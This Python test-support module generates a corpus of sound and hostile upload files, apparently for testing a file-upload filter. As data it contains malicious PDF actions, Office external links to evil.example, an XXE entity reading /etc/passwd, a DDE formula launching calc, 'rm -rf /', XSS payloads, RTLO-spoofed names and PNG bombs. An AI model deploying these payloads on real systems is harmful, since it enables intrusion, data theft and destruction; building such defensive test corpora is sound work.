"""Two hundred files as people and attackers send them, and as many mutations as one asks for.

Everything is made here, from a seed: nothing dangerous lies in the repository. Each file is
``(name, data, is_sound)``.
"""

import io
import random
import struct
import zipfile
import zlib

import pikepdf
from tests.support.photos import picture

from demo.papers import pdf

CONTENT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ENDS = (".pdf", ".jpg", ".png", ".docx", ".xlsx")
BASES = {
    ".pdf": lambda: pdf("好"),
    ".jpg": lambda: picture(),
    ".png": lambda: picture(kind="PNG"),
    ".docx": lambda: office("word/document.xml"),
    ".xlsx": lambda: office("xl/workbook.xml"),
}


def office(main, parts=(), types=""):
    """A small DOCX or XLSX with further ``parts`` by their names, and further content types."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f'<Types xmlns="{CONTENT}">{types}</Types>')
        archive.writestr(main, "<document/>")
        for name, data in dict(parts).items():
            archive.writestr(name, data)
    return out.getvalue()


# PDF

ACTIONS = {
    "JavaScript": {"JS": "app.alert(1)"},
    "Launch": {"F": "cmd.exe"},
    "SubmitForm": {"F": "http://evil.example/"},
    "ImportData": {"F": "x.fdf"},
    "GoToR": {"F": "\\\\evil\\x.pdf"},
    "GoToE": {"F": "x.pdf"},
    "Rendition": {"JS": "app.alert(1)"},
    "URI": {"URI": "file:///etc/passwd"},
}


def _action(kind):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **ACTIONS[kind])


def _opening(paper, action):
    paper.Root.OpenAction = action


def _closing(paper, action):
    paper.Root.AA = pikepdf.Dictionary(WC=action)


def _turning(paper, action):
    paper.pages[0].obj.AA = pikepdf.Dictionary(O=action)


def _pressing(paper, action):
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    paper.pages[0].obj.Annots = paper.make_indirect(pikepdf.Array([note]))


def _next(paper, action):
    first = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D="x", Next=action)
    paper.Root.OpenAction = paper.make_indirect(first)


def _outline(paper, action):
    item = paper.make_indirect(pikepdf.Dictionary(Title="x", A=action))
    paper.Root.Outlines = pikepdf.Dictionary(First=item, Last=item, Count=1)


PLACES = (_opening, _closing, _turning, _pressing, _next, _outline)


def paper(change=None, **how):
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if change:
            change(document)
        document.save(out, **how)
    return out.getvalue()


def _attached(document):
    document.attachments["x.exe"] = b"MZ"


def _form(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"))


def _elsewhere(document):
    stream = document.make_stream(b"")
    stream.stream_dict.F = pikepdf.String("\\\\evil\\x")
    document.pages[0].obj.Contents = stream


def _papers():
    for kind in ACTIONS:
        for place in PLACES:
            yield paper(lambda document, k=kind, p=place: p(document, _action(k)))
    for change in (_attached, _form, _elsewhere):
        yield paper(change)
        yield paper(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# Office

PARTS = (
    *("{}/vbaProject.bin", "{}/embeddings/oleObject1.bin", "{}/activeX/activeX1.xml"),
    *("{}/externalLinks/externalLink1.xml", "../../etc/passwd", "/etc/passwd"),
)
TARGETS = (
    ("attachedTemplate", "http://evil.example/x.dotm"),
    ("oleObject", "http://evil.example/x"),
    ("hyperlink", "file:///c:/x"),
    ("image", "\\\\evil\\x.png"),
)
MACROS = "application/vnd.ms-office.vbaProject"
ENTITIES = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def _offices():
    for folder, main, end in (("word", "document", ".docx"), ("xl", "workbook", ".xlsx")):
        whole = f"{folder}/{main}.xml"
        for part in PARTS:
            yield end, office(whole, {part.format(folder): "x"})
        for kind, target in TARGETS:
            row = f'<Relationship Id="a" Type="{KINDS}/{kind}" Target="{target}"'
            rows = f'<Relationships xmlns="{RELATIONS}">{row} TargetMode="External"/>'
            yield end, office(whole, {f"{folder}/_rels/x.xml.rels": f"{rows}</Relationships>"})
        yield end, office(whole, {f"{folder}/_rels/x.xml.rels": ENTITIES})
        macros = f'<Override PartName="/a.dat" ContentType="{MACROS}"/>'
        yield end, office(whole, types=macros)
        yield end, office(whole, {f"{folder}/big.xml": "0" * (12 * 1024 * 1024)})
        yield end, office(whole, {f"p{number}": "x" for number in range(2001)})
        yield end, office("readme.txt")


# Everything else

FOREIGN = {
    "elf": b"\x7fELF" + bytes(300),
    "exe": b"MZ" + bytes(300),
    "html": b"<!doctype html><script>alert(1)</script>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "gzip": b"\x1f\x8b\x08" + bytes(100),
    "text": b"=cmd|' /C calc'!A0\n" * 20,
    "ole": b"\xd0\xcf\x11\xe0" + bytes(600),
    "shell": b"#!/bin/sh\nrm -rf /\n",
}
TAILS = (b"<script>alert(1)</script>", b"<html><body onload=alert(1)>", office("word/document.xml"))
NAMES = (
    *("x.svg", "x.html", "x.exe", "x.js", "x.docm", "x.xlsm", "x.zip", "x.bat", "x.php", "x.lnk"),
    *("x.pdf.exe", "x", "合同\u202efdp.pdf", "\u2066x.pdf", "x\u200f.pdf", "x.pdf "),
)


def _png_that_claims(width, height):
    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def _sound():
    for number, end in enumerate(ENDS * 5):
        yield f"材料{number}{end if number % 3 else end.upper()}", BASES[end]()


def _refused():
    yield from (("表.pdf", data) for data in _papers())
    yield from ((f"文{end}", data) for end, data in _offices())
    yield from ((f"{kind}{end}", data) for end in ENDS for kind, data in FOREIGN.items())
    yield from ((name, pdf("好")) for name in NAMES)
    for end, other in ((a, b) for a in ENDS for b in ENDS if a != b):
        yield f"换{end}", BASES[other]()
    for end in (".pdf", ".jpg", ".png"):
        yield from ((f"双面{end}", BASES[end]() + tail) for tail in TAILS)
        yield f"半{end}", BASES[end]()[: 40 if end == ".pdf" else 200]
    for size in ((60_000, 60_000), (7_000, 6_000), (1, 2_000_000_000)):
        yield "炸弹.png", _png_that_claims(*size)
    yield "锁.pdf", paper(encryption=pikepdf.Encryption(owner="o", user="u"))
    yield "空.pdf", b""


def files():
    """Every file of the corpus, the sound ones first."""
    return [(name, data, is_sound) for rows, is_sound in ((_sound(), True), (_refused(), False))
            for name, data in rows]  # fmt: skip


def mutations(number, seed=2020):
    """``number`` of ``(name, data)``: files of the corpus with bytes changed, cut, doubled, moved
    between two of them.
    """
    dice = random.Random(seed)
    rows = [(name, data) for name, data, _ in files() if 0 < len(data) < 200_000]
    for _ in range(number):
        name, data = dice.choice(rows)
        yield name, dice.choice(WAYS)(dice, data, dice.choice(rows)[1])


def _changed(dice, data, _other):
    data = bytearray(data)
    for _ in range(dice.randint(1, 20)):
        data[dice.randrange(len(data))] = dice.randrange(256)
    return bytes(data)


def _cut(dice, data, _other):
    return data[: dice.randint(1, len(data))]


def _doubled(dice, data, _other):
    first, last = sorted(dice.randrange(len(data) + 1) for _ in range(2))
    return data[:last] + data[first:]


def _crossed(dice, data, other):
    return data[: dice.randrange(len(data) + 1)] + other[dice.randrange(len(other)) :]


WAYS = (_changed, _cut, _doubled, _crossed)
